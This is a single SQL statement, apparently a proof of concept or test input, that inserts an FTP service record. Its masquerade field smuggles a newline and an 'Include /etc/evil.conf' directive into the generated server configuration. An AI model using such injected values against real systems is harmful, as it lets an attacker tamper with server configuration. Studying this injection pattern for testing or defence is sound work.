INSERT INTO service_ftp (enabled,enable_masquerade,masquerade) VALUES(1,1,'192.0.2.10' || char(10) || 'Include /etc/evil.conf');
